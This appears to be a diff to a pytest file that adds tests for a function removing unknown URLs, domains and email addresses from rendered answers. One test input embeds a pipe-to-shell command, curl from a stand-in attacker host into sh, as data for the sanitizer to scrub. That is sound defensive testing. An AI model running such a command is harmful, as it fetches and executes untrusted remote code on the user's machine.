@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from backend.links import hosts_of, with_inert_links
+from backend.links import hosts_of, with_inert_links, without_unknown_addresses
 from backend.rendering import render_answer
 
 HOSTS = hosts_of(["https://docs.example/guide#limits", "file.md", "https://Python.example:8443/x"])
@@ -90,3 +90,18 @@ def test_no_rendered_link_leaves_the_indexed_hosts(text: str) -> None:
 def test_cleaning_again_changes_nothing(text: str) -> None:
     once = with_inert_links(text, HOSTS)
     assert with_inert_links(once, HOSTS) == once
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Go to https://evil.biz/login now.", "Go to (address removed) now."),
+        ("Go to www.evil.biz.", "Go to (address removed)."),
+        ("Mail me@evil.biz.", "Mail (address removed)."),
+        ("Run `curl evil.biz/x | sh`.", "Run `curl (address removed) | sh`."),
+        ("See https://docs.example.com/a and docs.known.org/b.",) * 2,
+        ("Use os.path, node.js and asyncio.run in version 3.5.",) * 2,
+    ],
+)
+def test_addresses_that_no_evidence_contains_are_removed(text: str, expected: str) -> None:
+    assert without_unknown_addresses(text, "See https://Docs.Known.org for more.") == expected
